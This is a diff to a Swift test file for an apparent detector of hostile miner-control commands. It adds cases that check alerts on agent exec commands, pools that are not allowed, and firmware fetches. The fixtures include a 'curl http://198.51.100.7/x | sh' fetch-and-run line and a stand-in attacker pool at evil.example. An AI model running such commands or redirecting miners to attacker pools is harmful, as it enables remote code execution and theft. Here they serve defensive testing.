@@ -19,6 +19,23 @@ extension FlowFacts {
     return [asked, observed(.requestAnswered(APIAnswer(number: number, outcome: outcome, text: "so")), at: time)]
   }
 
+  fileprivate func told(
+    _ surface: ManagementSurface, _ command: String, _ parameters: (String, String)..., isAmbiguous: Bool = false
+  ) -> [Observation] {
+    var given = APIParameters()
+    for (name, value) in parameters { given.add(name, value) }
+    var request = APIRequest(
+      surface, number: 0, command: command, method: surface == .http ? "POST" : "", parameters: given)
+    request.isAmbiguous = isAmbiguous
+    return [observed(.request(request))]
+  }
+
+  fileprivate func agentTold(_ command: String, _ parameters: (String, String)...) -> [Observation] {
+    var given = APIParameters()
+    for (name, value) in parameters { given.add(name, value) }
+    return [observed(.request(APIRequest(.agent, number: 0, command: command, parameters: given)))]
+  }
+
   fileprivate func posted(_ path: String, method: String = "POST", _ parameters: (String, String)...) -> [Observation] {
     var given = APIParameters()
     for (name, value) in parameters { given.add(name, value) }
@@ -33,6 +50,9 @@ extension RuleCase {
   private static let fromManager = flow(manager, to: miner, 4028, id: 8)
   private static let evil = "stratum+tcp://evil.example:3333"
 
+  /// A miner's agent at a cloud.
+  private static let agent = flow(to: stranger, 80, id: 9)
+
   private static let commands: [RuleCase] = [
     .fires(
       "a pool that is not allowed is added", fromStranger.told("addpool", evil, "mallory.x", "pw"),
@@ -45,6 +65,45 @@ extension RuleCase {
     .fires(
       "a manager adds a pool that is not allowed", fromManager.told("addpool", evil, "acme.1", "pw"),
       #"critical control.command 10.20.0.5 <- 10.1.0.2: "addpool" (POOL): pool "stratum+tcp://evil.example:3333" (not allowed), user "acme.1" (allowed), accepted"#
+    ),
+    .fires(
+      "an agent is answered with a command",
+      agent.agentTold("exec", ("exec", "curl http://198.51.100.7/x | sh")),
+      #"critical control.command 10.20.0.5 <- 198.51.100.66: "exec" (SHELL): mode "curl http://198.51.100.7/x | sh""#),
+    .fires(
+      "an agent stops a miner", agent.agentTold("exec", ("exec", "miner stop")),
+      #"critical control.command 10.20.0.5 <- 198.51.100.66: "exec" (MINE): mode "miner stop""#),
+    .fires(
+      "an agent of a service that is allowed", flow(to: "198.51.100.3", 443, id: 9).agentTold("reboot"),
+      #"info control.command 10.20.0.5 <- 198.51.100.3: "reboot" (BOOT)"#),
+    .fires(
+      "an agent of a service that is allowed sets a pool that is not",
+      flow(to: "198.51.100.3", 443, id: 9).agentTold("wallet", ("url", evil), ("user", "mallory.x")),
+      #"critical control.command 10.20.0.5 <- 198.51.100.3: "wallet" (POOL): pool "stratum+tcp://evil.example:3333" (not allowed), user "mallory.x" (not allowed)"#
+    ),
+    .fires(
+      "an agent fetches firmware", agent.agentTold("firmware-upgrade", ("firmware_url", "http://x.example/a")),
+      #"critical control.command 10.20.0.5 <- 198.51.100.66: "firmware-upgrade" (FW): file "http://x.example/a""#,
+      #"critical control.firmware 10.20.0.5 <- 198.51.100.66: a firmware command, by "firmware-upgrade""#),
+    .fires(
+      "a proxy answers a miner's search", fromStranger.told(.discovery, "upstream", ("url", "evil.example:3333")),
+      #"critical control.command 10.20.0.5 <- 198.51.100.66: "upstream" (POOL): pool "evil.example:3333" (not allowed)"#
+    ),
+    .fires(
+      "a manager's command that readers understand differently",
+      fromManager.told(.http, "/cgi-bin/reboot.cgi", isAmbiguous: true),
+      #"critical control.command 10.20.0.5 <- 10.1.0.2: "POST /cgi-bin/reboot.cgi" (BOOT): written so that two readers understand it differently"#
+    ),
+    .fires(
+      "gRPC: a manager sets a pool that is not allowed",
+      fromManager.posted(
+        "/braiins.bos.v1.PoolService/SetPoolGroups", ("1", "2"), ("2.5.2", evil), ("2.5.3", "acme.1")),
+      #"critical control.command 10.20.0.5 <- 10.1.0.2: "POST /braiins.bos.v1.PoolService/SetPoolGroups" (POOL): pool "stratum+tcp://evil.example:3333" (not allowed), user "acme.1" (allowed)"#
+    ),
+    .fires(
+      "gRPC: a manager sets a power target",
+      fromManager.posted("/braiins.bos.v1.PerformanceService/SetPowerTarget", ("1", "2"), ("2.1", "3500")),
+      #"info control.command 10.20.0.5 <- 10.1.0.2: "POST /braiins.bos.v1.PerformanceService/SetPowerTarget" (PERF): value "3500""#
     ),
     .fires(
       "denied", fromStranger.told("quit", answer: .denied),
